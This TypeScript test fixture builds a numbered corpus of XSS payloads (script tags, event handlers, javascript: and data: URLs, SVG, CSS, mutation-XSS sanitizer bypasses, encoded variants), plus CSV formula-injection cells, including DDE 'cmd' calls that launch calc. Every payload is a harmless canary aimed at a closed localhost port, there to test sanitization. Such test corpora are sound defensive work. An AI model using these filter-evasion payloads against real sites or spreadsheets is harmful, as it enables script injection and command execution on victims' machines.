/**
 * The XSS corpus (issue 16, item 5): markup and text that would run script in a page that
 * inserted it as HTML, or in a parser that read it back differently (mutation XSS). Each
 * payload is a canary: if it ran, it would call `alert`/`confirm`/`prompt`, log to the
 * console, or ask for the canary URL, all carrying the payload's own number, so a journey
 * that sees one knows which payload ran and where. Nothing here runs in the test process;
 * the browser is what would run it.
 *
 * Sources: the OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat sheet and
 * the published DOMPurify/sanitize-html mutation bypasses (namespace confusion between
 * HTML, SVG and MathML; raw-text elements such as noscript, style, xmp and template).
 */

/** The origin canary requests go to: a closed port; journeys intercept the path anyway. */
export const CANARY_ORIGIN = 'http://127.0.0.1:59999';

/** What a payload calls or asks for when it runs, by payload number. */
export interface Canary {
  /** `xss-007`: what the payload passes to alert or console.log. */
  tag: string;
  /** `alert('xss-007')` */
  alert: string;
  /** `console.log('xss-007')` */
  log: string;
  /** The canary URL of this payload: http://127.0.0.1:59999/canary-007 */
  url: string;
}

export type PayloadCategory =
  | 'script'
  | 'event handler'
  | 'javascript: URL'
  | 'data: URL'
  | 'remote resource'
  | 'svg'
  | 'css'
  | 'mutation'
  | 'broken markup'
  | 'entities'
  | 'template and script context';

export interface Payload {
  /** 1-based, stable: the number in the canary. */
  id: number;
  category: PayloadCategory;
  /** The payload itself. */
  text: string;
  /** The canary tag and URL this payload would hit: `xss-007`, `/canary-007`. */
  tag: string;
  url: string;
}

const pad = (n: number) => String(n).padStart(3, '0');

export function canaryOf(id: number): Canary {
  const tag = `xss-${pad(id)}`;
  return {
    tag,
    alert: `alert('${tag}')`,
    log: `console.log('${tag}')`,
    url: `${CANARY_ORIGIN}/canary-${pad(id)}`,
  };
}

/** The base64 of a UTF-8 string, for data: URLs. */
const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
/** Every character as a decimal entity, for filters that only look for letters. */
const decimalEntities = (text: string) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join('');
/** Every character as a hex entity with leading zeros (old filters' favourite). */
const paddedHexEntities = (text: string) =>
  [...text].map((c) => `&#x${c.charCodeAt(0).toString(16).padStart(6, '0')};`).join('');
/** A string as a JavaScript String.fromCharCode(...) expression: no quotes needed. */
const fromCharCode = (text: string) =>
  `String.fromCharCode(${[...text].map((c) => c.charCodeAt(0)).join(',')})`;

type Template = (c: Canary) => string;

const TEMPLATES: [PayloadCategory, Template][] = [
  // --- Script elements -----------------------------------------------------------------
  ['script', (c) => `<script>${c.alert}</script>`],
  ['script', (c) => `<script>${c.log}</script>`],
  ['script', (c) => `<SCRIPT SRC="${c.url}"></SCRIPT>`],
  ['script', (c) => `<script src=${c.url}></script>`],
  ['script', (c) => `<script type="module">${c.alert}</script>`],
  ['script', (c) => `<script>fetch('${c.url}')</script>`],
  ['script', (c) => `<scr<script>ipt>${c.alert}</scr</script>ipt>`],
  ['script', (c) => `<<SCRIPT>${c.alert}//<</SCRIPT>`],
  ['script', (c) => `"><script>${c.alert}</script>`],
  ['script', (c) => `'><script>${c.alert}</script>`],
  ['script', (c) => `</textarea><script>${c.alert}</script>`],
  ['script', (c) => `</title><script>${c.alert}</script>`],
  ['script', (c) => `<script/xss src="${c.url}"></script>`],
  ['script', (c) => `<script>import('${c.url}')</script>`],
  ['script', (c) => `<script\x0c>${c.alert}</script>`],

  // --- Event handlers ------------------------------------------------------------------
  ['event handler', (c) => `<img src=x onerror=${c.alert}>`],
  ['event handler', (c) => `<img src="x" onerror="${c.alert}">`],
  ['event handler', (c) => `<IMG SRC=x oNeRrOr=${c.alert}>`],
  ['event handler', (c) => `<img/src=x/onerror=${c.alert}>`],
  ['event handler', (c) => `<img src=x onerror=${c.log}>`],
  ['event handler', (c) => `<body onload=${c.alert}>`],
  ['event handler', (c) => `<svg onload=${c.alert}>`],
  ['event handler', (c) => `<svg/onload=${c.alert}>`],
  ['event handler', (c) => `<input autofocus onfocus=${c.alert}>`],
  ['event handler', (c) => `<select autofocus onfocus=${c.alert}></select>`],
  ['event handler', (c) => `<textarea autofocus onfocus=${c.alert}></textarea>`],
  ['event handler', (c) => `<details open ontoggle=${c.alert}>x</details>`],
  ['event handler', (c) => `<video><source onerror=${c.alert}></video>`],
  ['event handler', (c) => `<audio src=x onerror=${c.alert}>`],
  ['event handler', (c) => `<iframe onload=${c.alert}></iframe>`],
  ['event handler', (c) => `<marquee onstart=${c.alert}>x</marquee>`],
  ['event handler', (c) => `<p onclick=${c.alert}>x</p>`],
  ['event handler', (c) => `<a onmouseover=${c.alert}>x</a>`],
  ['event handler', (c) => `<span onanimationstart=${c.alert} style="animation-name:x">x</span>`],
  ['event handler', (c) => `<img src="data:image/png;base64,iVBORw0KGgo=" onerror=${c.alert}>`],
  ['event handler', (c) => `<x contenteditable autofocus onfocusin=${c.alert}>x</x>`],
  ['event handler', (c) => `<object data=x onerror=${c.alert}></object>`],

  // --- javascript: URLs ----------------------------------------------------------------
  ['javascript: URL', (c) => `<a href="javascript:${c.alert}">link</a>`],
  ['javascript: URL', (c) => `<a href="JaVaScRiPt:${c.alert}">link</a>`],
  ['javascript: URL', (c) => `<a href=" javascript:${c.alert}">link</a>`],
  ['javascript: URL', (c) => `<a href="java&#x09;script:${c.alert}">link</a>`],
  ['javascript: URL', (c) => `<a href="jav&#x0A;ascript:${c.alert}">link</a>`],
  ['javascript: URL', (c) => `<a href="${decimalEntities(`javascript:${c.alert}`)}">link</a>`],
  ['javascript: URL', (c) => `<a href="${paddedHexEntities('javascript:')}${c.alert}">link</a>`],
  ['javascript: URL', (c) => `<a href="javascript&colon;${c.alert}">link</a>`],
  ['javascript: URL', (c) => `<iframe src="javascript:${c.alert}"></iframe>`],
  ['javascript: URL', (c) => `<img src="javascript:${c.alert}">`],
  ['javascript: URL', (c) => `<form><button formaction="javascript:${c.alert}">go</button></form>`],
  ['javascript: URL', (c) => `<object data="javascript:${c.alert}"></object>`],
  ['javascript: URL', (c) => `<embed src="javascript:${c.alert}">`],
  ['javascript: URL', (c) => `<base href="javascript:${c.alert}//">`],
  ['javascript: URL', (c) => `[link](javascript:${c.alert})`],
  ['javascript: URL', (c) => `javascript:${c.alert}`],
  ['javascript: URL', (c) => `<a href="vbscript:${c.alert}">link</a>`],

  // --- data: URLs ----------------------------------------------------------------------
  ['data: URL', (c) => `<a href="data:text/html,<script>${c.alert}</script>">link</a>`],
  [
    'data: URL',
    (c) => `<iframe src="data:text/html;base64,${b64(`<script>fetch('${c.url}')</script>`)}">`,
  ],
  ['data: URL', (c) => `<object data="data:text/html,<script>fetch('${c.url}')</script>">`],
  [
    'data: URL',
    (c) =>
      `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${c.url}')"/>`)}">`,
  ],
  ['data: URL', (c) => `<script src="data:text/javascript,${c.alert}"></script>`],
  ['data: URL', (c) => `<img src="data:image/svg+xml,<svg onload=${c.alert}>">`],
  ['data: URL', (c) => `<img src="data:image/png;base64,AAAA&quot; onerror=&quot;${c.alert}">`],
  ['data: URL', (c) => `<img src="data:image/png;base64,AAAA" onerror="${c.alert}">`],
  [
    'data: URL',
    (c) => `<a href="data:text/html;base64,${b64(`<script>${c.alert}</script>`)}">link</a>`,
  ],

  // --- Resources from elsewhere (the canary URL is fetched if the element survives) -----
  ['remote resource', (c) => `<img src="${c.url}">`],
  ['remote resource', (c) => `<img srcset="${c.url} 1x">`],
  ['remote resource', (c) => `<picture><source srcset="${c.url}"><img alt="x"></picture>`],
  ['remote resource', (c) => `<link rel="stylesheet" href="${c.url}">`],
  ['remote resource', (c) => `<link rel="prefetch" href="${c.url}">`],
  ['remote resource', (c) => `<meta http-equiv="refresh" content="0;url=${c.url}">`],
  ['remote resource', (c) => `<iframe src="${c.url}"></iframe>`],
  ['remote resource', (c) => `<embed src="${c.url}">`],
  ['remote resource', (c) => `<object data="${c.url}"></object>`],
  ['remote resource', (c) => `<input type="image" src="${c.url}">`],
  ['remote resource', (c) => `<video poster="${c.url}"></video>`],
  ['remote resource', (c) => `<table background="${c.url}"><tr><td>x</td></tr></table>`],
  ['remote resource', (c) => `<base href="${c.url}/">`],

  // --- SVG -----------------------------------------------------------------------------
  ['svg', (c) => `<svg><script>${c.alert}</script></svg>`],
  ['svg', (c) => `<svg><script href="${c.url}"></script></svg>`],
  ['svg', (c) => `<svg><animate onbegin=${c.alert} attributeName=x dur=1s>`],
  ['svg', (c) => `<svg><foreignObject><iframe onload=${c.alert}></iframe></foreignObject></svg>`],
  ['svg', (c) => `<svg><image href="${c.url}"></image></svg>`],
  ['svg', (c) => `<svg><a href="javascript:${c.alert}"><text y="20">x</text></a></svg>`],
  ['svg', (c) => `<svg><a xlink:href="javascript:${c.alert}"><text y="20">x</text></a></svg>`],
  [
    'svg',
    (c) =>
      `<svg><a><animate attributeName="href" values="javascript:${c.alert}"/><text y="20">x</text></a></svg>`,
  ],
  ['svg', (c) => `<svg><set attributeName="onmouseover" to="${c.alert}"/></svg>`],
  ['svg', (c) => `<svg><desc><![CDATA[</desc><script>${c.alert}</script>]]></svg>`],
  [
    'svg',
    (c) =>
      `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${c.alert}"/></svg>`)}#x"></use></svg>`,
  ],
  ['svg', (c) => `<svg><discard onbegin=${c.alert}>`],

  // --- CSS -----------------------------------------------------------------------------
  ['css', (c) => `<div style="background:url(${c.url})">x</div>`],
  ['css', (c) => `<span style="background-image:url('${c.url}')">x</span>`],
  ['css', (c) => `<p style="width:expression(${c.alert})">x</p>`],
  ['css', (c) => `<style>@import '${c.url}';</style>`],
  ['css', (c) => `<style>body{background:url(${c.url})}</style>`],
  ['css', (c) => `<div style="behavior:url(${c.url})">x</div>`],
  ['css', (c) => `<style>*{x:expression(${c.alert})}</style>`],
  ['css', (c) => `<div style="-moz-binding:url(${c.url})">x</div>`],
  ['css', (c) => `<svg><style>@import '${c.url}';</style></svg>`],
  ['css', (c) => `<div style="background:url(&quot;${c.url}&quot;)">x</div>`],
  ['css', (c) => `<div style="list-style-image:url(${c.url})"><li>x</li></div>`],

  // --- Mutation XSS: raw-text elements and namespace confusion -------------------------
  ['mutation', (c) => `<noscript><p title="</noscript><img src=x onerror=${c.alert}>"></noscript>`],
  ['mutation', (c) => `<template><img src=x onerror=${c.alert}></template>`],
  ['mutation', (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c.alert}>`],
  [
    'mutation',
    (c) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${c.alert}&gt;">`,
  ],
  ['mutation', (c) => `<svg></p><style><a id="</style><img src=1 onerror=${c.alert}>">`],
  [
    'mutation',
    (c) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${c.alert}>`,
  ],
  ['mutation', (c) => `<math><style><img src=x onerror=${c.alert}></style></math>`],
  ['mutation', (c) => `<svg><style><img src=x onerror=${c.alert}></style></svg>`],
  ['mutation', (c) => `<xmp><p title="</xmp><img src=x onerror=${c.alert}>"></xmp>`],
  ['mutation', (c) => `<noembed><img title="</noembed><img src=x onerror=${c.alert}>"></noembed>`],
  ['mutation', (c) => `<textarea><p title="</textarea><img src=x onerror=${c.alert}>">`],
  ['mutation', (c) => `<title><img title="</title><img src=x onerror=${c.alert}>"></title>`],
  ['mutation', (c) => `<style><img src=x onerror=${c.alert}></style>`],
  [
    'mutation',
    (c) => `<select><template><style><img src=x onerror=${c.alert}></style></template></select>`,
  ],
  [
    'mutation',
    (c) =>
      `<table><caption><svg><title><table><img src=x onerror=${c.alert}></table></title></svg>`,
  ],
  ['mutation', (c) => `<iframe><p title="</iframe><img src=x onerror=${c.alert}>"></iframe>`],
  ['mutation', (c) => `<plaintext></plaintext><img src=x onerror=${c.alert}>`],

  // --- Broken markup -------------------------------------------------------------------
  ['broken markup', (c) => `<img src=x onerror=${c.alert}`],
  ['broken markup', (c) => `<img """><script>${c.alert}</script>">`],
  ['broken markup', (c) => `<a href="x" title="<img src=x onerror=${c.alert}>">x</a>`],
  ['broken markup', (c) => `<<img src=x onerror=${c.alert}>>`],
  ['broken markup', (c) => `<img src=\`x\` onerror=${c.alert}>`],
  ['broken markup', (c) => `<!--><img src=x onerror=${c.alert}>-->`],
  ['broken markup', (c) => `<!-- --!><img src=x onerror=${c.alert}> -->`],
  ['broken markup', (c) => `<![CDATA[><img src=x onerror=${c.alert}>]]>`],
  ['broken markup', (c) => `<?xml-stylesheet href="${c.url}"?><img src=x onerror=${c.alert}>`],
  ['broken markup', (c) => `<img\tsrc=x\nonerror=${c.alert}>`],
  ['broken markup', (c) => `<img src=x onerror\x0c=${c.alert}>`],
  ['broken markup', (c) => `</p><img src=x onerror=${c.alert}><p>`],
  ['broken markup', (c) => `<img src="x` + `" alt="\`"><img src=x onerror=${c.alert}>`],
  ['broken markup', (c) => `<div/onmouseover=${c.alert}>x</div>`],
  ['broken markup', (c) => `<svg><p><style><g title="</style><img src=x onerror=${c.alert}>">`],
  ['broken markup', (c) => `<iframe/src="${c.url}">`],

  // --- Entities and encodings ----------------------------------------------------------
  ['entities', (c) => `&lt;img src=x onerror=${c.alert}&gt;`],
  ['entities', (c) => `&#60;script&#62;${c.alert}&#60;/script&#62;`],
  ['entities', (c) => `&amp;lt;script&amp;gt;${c.alert}&amp;lt;/script&amp;gt;`],
  ['entities', (c) => `\\u003cscript\\u003e${c.alert}\\u003c/script\\u003e`],
  ['entities', (c) => `%3Cscript%3E${c.alert}%3C/script%3E`],
  ['entities', (c) => `<img src=x onerror="&#x61;lert('${c.tag}')">`],
  ['entities', (c) => `<img src=x onerror=${decimalEntities(c.alert)}>`],
  ['entities', (c) => `＜script＞${c.alert}＜/script＞`],
  ['entities', (c) => `<img src=x onerror=eval(${fromCharCode(c.alert)})>`],

  // --- Text that would run in a template or script context -----------------------------
  ['template and script context', (c) => `{{constructor.constructor('${c.alert}')()}}`],
  ['template and script context', (c) => `\${${c.alert}}`],
  ['template and script context', (c) => `'-${c.alert}-'`],
  ['template and script context', (c) => `";${c.alert};//`],
  ['template and script context', (c) => `</script><script>${c.alert}</script>`],
  ['template and script context', (c) => `<img src=x onerror=confirm('${c.tag}')>`],
  ['template and script context', (c) => `<img src=x onerror=prompt('${c.tag}')>`],
  ['template and script context', (c) => `<img src=x onerror=top['al'+'ert']('${c.tag}')>`],
];

export const PAYLOADS: readonly Payload[] = TEMPLATES.map(([category, template], index) => {
  const canary = canaryOf(index + 1);
  return {
    id: index + 1,
    category,
    text: template(canary),
    tag: canary.tag,
    url: canary.url,
  };
});

/** A payload's label, written in front of it so a page that shows it can be found. */
export const markerOf = (payload: Pick<Payload, 'id'>) => `[x${pad(payload.id)}]`;

/** The payload with its marker in front. */
export const marked = (payload: Payload) => `${markerOf(payload)} ${payload.text}`;

/** The payload numbers whose markers appear in `text`. */
export function markersIn(text: string): Set<number> {
  return new Set([...text.matchAll(/\[x(\d{3})\]/g)].map((m) => Number(m[1])));
}

/**
 * Cells that a spreadsheet program would read as a formula (OWASP CSV injection): each
 * starts with one of `=`, `+`, `-`, `@`, tab or carriage return. The first asks for the
 * canary URL if a spreadsheet ran it; one has a second line, which once let a formula
 * slip past papaparse's own escape (its pattern's `.` stops at a newline).
 */
export const FORMULA_PAYLOADS = [
  `=HYPERLINK("${CANARY_ORIGIN}/canary-formula","Open")`,
  `+SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `=WEBSERVICE("${CANARY_ORIGIN}/canary-formula")\nsecond line`,
] as const;
